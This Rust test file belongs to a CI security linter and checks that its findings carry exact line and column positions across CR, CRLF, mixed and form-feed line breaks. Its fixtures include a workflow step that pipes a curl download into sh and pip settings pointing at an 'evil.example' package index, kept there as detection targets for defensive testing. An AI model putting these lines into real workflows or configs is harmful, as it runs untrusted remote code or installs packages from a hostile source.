//! Line breaks end to end: a workflow written with lone CRs, or with LF, CRLF and CR mixed,
//! has every finding at the hand-counted line and column; a requirements file or pip.conf
//! whose lines end where pip ends them (a lone CR, a form feed) gives the finding it gives
//! with `\n`; and inputs made of millions of line breaks are read in bounded time.

#![allow(clippy::print_stderr)]

mod common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::{json, tollgate};
use serde_json::Value;

fn write_all(root: &Path, files: &[(&str, &[u8])]) {
    for (rel, bytes) in files {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, bytes).expect("write");
    }
}

/// Run `check --format json` on `path` with the rules `select`, within `limit`.
fn check(path: &Path, select: &str, limit: Duration) -> Value {
    let start = Instant::now();
    let out = tollgate()
        .args(["check", "--format", "json", "--select", select])
        .arg(path)
        .output()
        .expect("run");
    let took = start.elapsed();
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{:?}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(took < limit, "took {took:?}");
    json(&out.stdout)
}

/// The written files: one workflow per line-ending style, each on its own path.
fn repo(files: &[(&str, Vec<u8>)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tmp");
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (*p, b.as_slice())).collect();
    write_all(dir.path(), &refs);
    dir
}

/// (rule, line, column, end line, end column) of every finding in `path`, sorted.
fn findings(doc: &Value, path: &str) -> Vec<(String, u64, u64, u64, u64)> {
    let n = |v: &Value| v.as_u64().expect("number");
    let mut v: Vec<_> = doc["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["location"]["path"] == path)
        .map(|f| {
            let l = &f["location"];
            (
                f["rule"].as_str().expect("rule").to_owned(),
                n(&l["line"]),
                n(&l["column"]),
                n(&l["end_line"]),
                n(&l["end_column"]),
            )
        })
        .collect();
    v.sort();
    v
}

fn diagnostics(doc: &Value, path: &str) -> Vec<Value> {
    doc["diagnostics"]
        .as_array()
        .expect("diagnostics")
        .iter()
        .filter(|d| d["path"] == path || d["location"]["path"] == path)
        .cloned()
        .collect()
}

/// Lines 1 to 10; the finding lines are 6 (`uses:`) and 10 (`curl … | sh`), the second
/// line of a literal block whose first is line 9. The step name is non-ASCII so that
/// columns are counted in characters.
const WORKFLOW: [&str; 10] = [
    "on: push",
    "jobs:",
    "  build:",
    "    runs-on: ubuntu-latest",
    "    steps:",
    "      - uses: actions/checkout@v4",
    "      - name: ünïcödé ✓",
    "        run: |",
    "          echo start",
    "          curl -fsSL https://example.com/i.sh | sh",
];

fn written(eol: impl Fn(usize) -> &'static str) -> Vec<u8> {
    WORKFLOW
        .iter()
        .enumerate()
        .flat_map(|(i, l)| [*l, eol(i)])
        .collect::<String>()
        .into_bytes()
}

/// Hand-counted: `actions/checkout@v4` follows the 14 characters `      - uses: ` and is
/// 19 long, so it spans columns 15 to 34 (end exclusive); the `curl` command follows 10
/// spaces and is 35 characters long (columns 11 to 46); `sh` is at column 49.
fn expected() -> Vec<(String, u64, u64, u64, u64)> {
    vec![
        ("remote-script-execution".to_owned(), 10, 11, 10, 46),
        ("unpinned-action".to_owned(), 6, 15, 6, 34),
    ]
}

#[test]
fn cr_only_and_mixed_workflows_report_hand_counted_positions() {
    let styles = [
        ("lf", written(|_| "\n")),
        ("cr", written(|_| "\r")),
        ("crlf", written(|_| "\r\n")),
        ("mixed", written(|i| ["\r", "\n", "\r\n"][i % 3])),
        // No break at the end of the file.
        ("cr-unterminated", {
            let mut b = written(|_| "\r");
            b.pop();
            b
        }),
    ];
    let files: Vec<(String, Vec<u8>)> = styles
        .iter()
        .map(|(name, b)| (format!(".github/workflows/{name}.yml"), b.clone()))
        .collect();
    let files: Vec<(&str, Vec<u8>)> = files.iter().map(|(p, b)| (p.as_str(), b.clone())).collect();
    let dir = repo(&files);
    let doc = check(
        dir.path(),
        "unpinned-action,remote-script-execution",
        Duration::from_secs(20),
    );
    for (path, _) in &files {
        assert!(diagnostics(&doc, path).is_empty(), "{path}");
        assert_eq!(findings(&doc, path), expected(), "{path}");
    }
    // Script facts inside the literal block map back line by line too.
    let workflows = doc["workflows"].as_array().expect("workflows");
    for (path, _) in &files {
        let wf = workflows
            .iter()
            .find(|w| w["path"] == *path)
            .unwrap_or_else(|| panic!("{path}"));
        let run = &wf["jobs"][0]["steps"][1]["run"];
        assert_eq!(
            (&run["location"]["line"], &run["location"]["column"]),
            (&Value::from(9), &Value::from(11)),
            "{path}"
        );
        let fact = run["facts"]
            .as_array()
            .expect("facts")
            .iter()
            .find(|f| f["kind"] == "download-exec")
            .unwrap_or_else(|| panic!("{path}: download-exec"));
        assert_eq!(
            (&fact["location"]["line"], &fact["location"]["column"]),
            (&Value::from(10), &Value::from(49)),
            "{path}"
        );
    }
}

const PIP_WORKFLOW: &str = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip install -r requirements.txt\n";

/// `unknown-package-source` findings in `path` of a repository with the pip workflow and
/// `files`.
fn pip_findings(files: &[(&str, &[u8])], path: &str) -> Vec<(String, u64, u64, u64, u64)> {
    let dir = tempfile::tempdir().expect("tmp");
    let mut all = vec![(".github/workflows/ci.yml", PIP_WORKFLOW.as_bytes())];
    all.extend_from_slice(files);
    write_all(dir.path(), &all);
    let doc = check(
        dir.path(),
        "unknown-package-source",
        Duration::from_secs(20),
    );
    assert!(diagnostics(&doc, path).is_empty(), "{path}");
    findings(&doc, path)
}

/// pip splits requirements files with `str.splitlines()`: after a lone CR or a form feed,
/// `--index-url` is an option of its own, as after `\n`.
#[test]
fn pip_requirements_split_at_cr_and_form_feed() {
    let rule = "unknown-package-source".to_owned();
    let with = |brk: &str| {
        let text = format!("requests==2.31.0{brk}--index-url https://evil.example/simple\n");
        pip_findings(&[("requirements.txt", text.as_bytes())], "requirements.txt")
    };
    // `--index-url https://evil.example/simple` is 39 characters.
    let lf = with("\n");
    assert_eq!(lf, [(rule.clone(), 2, 1, 2, 40)]);
    assert_eq!(with("\r"), lf);
    assert_eq!(with("\r\n"), lf);
    // A form feed is a break for pip but not for the line index: the same finding, where
    // an editor shows it, after the 16 characters of the requirement and the form feed.
    assert_eq!(with("\x0c"), [(rule.clone(), 1, 18, 1, 57)]);
    assert_eq!(with("\x0b"), [(rule, 1, 18, 1, 57)]);
}

/// configparser reads pip.conf with universal newlines: `[global]\rindex-url = …` sets the
/// global index as it does with `\n`.
#[test]
fn pip_conf_splits_at_a_lone_cr() {
    let rule = "unknown-package-source".to_owned();
    let with = |brk: &str| {
        let text = format!("[global]{brk}index-url = https://evil.example/simple{brk}");
        pip_findings(
            &[
                ("requirements.txt", b"requests==2.31.0\n"),
                ("pip.conf", text.as_bytes()),
            ],
            "pip.conf",
        )
    };
    let lf = with("\n");
    assert_eq!(lf.len(), 1, "{lf:?}");
    assert_eq!((lf[0].0.clone(), lf[0].1, lf[0].2), (rule, 2, 1));
    assert_eq!(with("\r"), lf);
    assert_eq!(with("\r\n"), lf);
}

/// Millions of line breaks of every kind: read in bounded time, the positions after them
/// still exact.
#[test]
fn millions_of_line_breaks_are_read_in_bounded_time() {
    const N: usize = 1_000_000;
    let mut wf = written(|_| "\r");
    // The findings move down by N lines: N lone CRs before the workflow's last two lines
    // would break the block, so they go before `on:` as leading blank lines.
    let mut cr = vec![b'\r'; N];
    cr.append(&mut wf);
    let mut mixed = b"\r\n\n\r".repeat(N / 4);
    mixed.extend(written(|i| ["\r", "\n", "\r\n"][i % 3]));
    // pip: a million form feeds, then the option; the index must still be found.
    let mut req = b"requests==2.31.0".to_vec();
    req.extend(std::iter::repeat_n(b'\x0c', N));
    req.extend(b"--index-url https://evil.example/simple\n");
    let dir = repo(&[
        (".github/workflows/cr.yml", cr),
        (".github/workflows/mixed.yml", mixed),
        (".github/workflows/ci.yml", PIP_WORKFLOW.as_bytes().to_vec()),
        ("requirements.txt", req),
        ("pip.conf", b"[global]\r".repeat(N / 8)),
    ]);
    let start = Instant::now();
    let doc = check(
        dir.path(),
        "unpinned-action,remote-script-execution,unknown-package-source",
        Duration::from_secs(20),
    );
    eprintln!("millions of line breaks: {:?}", start.elapsed());
    let shifted = |by: u64| -> Vec<(String, u64, u64, u64, u64)> {
        expected()
            .into_iter()
            .map(|(r, l, c, el, ec)| (r, l + by, c, el + by, ec))
            .collect()
    };
    assert_eq!(
        findings(&doc, ".github/workflows/cr.yml"),
        shifted(N as u64)
    );
    // `\r\n`, `\n`, `\r`: three breaks per group.
    assert_eq!(
        findings(&doc, ".github/workflows/mixed.yml"),
        shifted(3 * (N / 4) as u64)
    );
    let req = findings(&doc, "requirements.txt");
    assert_eq!(req.len(), 1, "{req:?}");
    assert_eq!((req[0].1, req[0].2), (1, 18 + N as u64 - 1));
}

/// Human output of a CR-only workflow: the excerpt shows the finding's own line under its
/// own number, and no raw CR reaches the terminal (it would hide the text before it).
#[test]
fn human_excerpts_of_cr_only_files_show_the_right_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let wf = dir.path().join(".github/workflows");
    std::fs::create_dir_all(&wf).expect("mkdir");
    std::fs::write(
        wf.join("ci.yml"),
        "on: push\rpermissions: {}\rjobs:\r  a:\r    runs-on: ubuntu-latest\r    steps:\r      - uses: actions/checkout@v4\r",
    )
    .expect("write");
    let out = tollgate()
        .args(["check", "--color", "never", "--select", "unpinned-action"])
        .arg(dir.path())
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains('\r'), "raw CR in {text:?}");
    assert!(text.contains("ci.yml:7:15"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.trim_start().starts_with("7 │") && l.contains("actions/checkout@v4")),
        "{text}"
    );
}
